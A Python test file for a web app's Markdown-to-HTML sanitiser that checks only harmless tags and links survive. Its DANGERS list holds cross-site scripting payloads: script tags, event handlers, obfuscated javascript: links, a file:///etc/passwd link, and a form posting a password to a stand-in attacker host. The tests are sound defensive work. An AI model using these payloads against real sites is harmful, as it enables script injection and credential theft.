"""Markdown to safe HTML: what an organiser writes stays readable, and nothing that acts gets through."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from letters.web.markdown import TAGS, split_title, to_html


class Seen(HTMLParser):
    """Every tag and attribute of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.tags.add("comment")


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel"), ("ol", "start")}
        if name == "href":
            scheme = "".join(value.split()).partition(":")[0].lower()
            assert ":" not in value or scheme in ("https", "http", "mailto") or "/" in scheme


DANGERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "![image](https://evil.example/pixel.png)",
    "![image][ref]\n\n[ref]: https://evil.example/pixel.png",
    "<iframe src=https://evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "<p style='position:fixed'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<!-- comment --><!DOCTYPE html><?php ?><![CDATA[x]]>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><script>alert(1)</script>",
    "```<script>alert(1)</script>```",
    "`<img src=x onerror=alert(1)>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <script>alert(1)</script>",
    "> <b onclick=alert(1)>x</b>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "[x]: javascript:alert(1)\n\n[x]",
    "\x00<script>\x00",
]


@pytest.mark.parametrize("markdown", DANGERS)
def test_nothing_that_acts_gets_through(markdown: str) -> None:
    assert_harmless(to_html(markdown))
    assert_harmless(to_html(f"Before\n\n{markdown}\n\nafter"))


pieces = st.sampled_from(
    [*DANGERS, "<", ">", '"', "'", "[", "](", ")", "`", "\n\n", "# ", "> ", "- ", "&#", "\\", "javascript:"]
)


@given(st.lists(pieces | st.text(st.characters(exclude_categories=["Cs"]), max_size=10), max_size=8).map("".join))
def test_no_markdown_makes_code(markdown: str) -> None:
    html = to_html(markdown)
    assert "<script" not in html.lower()
    assert_harmless(html)


def test_what_a_letter_needs_is_kept() -> None:
    html = to_html(
        "# Title\n\n## Part\n\n*em* **strong**\n\n- one\n\n3. three\n\n> quote\n\n[site](https://example.org)"
    )
    for kept in (
        "<h2>Title</h2>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<li>one</li>",
        '<ol start="3">',
        "<blockquote>",
    ):
        assert kept in html
    assert 'href="https://example.org"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in to_html("<b>bold</b>")


@pytest.mark.parametrize(
    ("markdown", "title", "rest"),
    [
        ("# The letter\n\nText\n", "The letter", "Text\n"),
        ("\n\n# The letter #\nText", "The letter", "Text\n"),
        ("Before\n# The letter\nAfter\n# Another", "The letter", "Before\nAfter\n# Another\n"),
        ("## Not a title\nText", "", "## Not a title\nText\n"),
        ("#NoSpace\nText", "", "#NoSpace\nText\n"),
        ("", "", "\n"),
    ],
)
def test_the_first_heading_is_the_title(markdown: str, title: str, rest: str) -> None:
    assert split_title(markdown) == (title, rest)
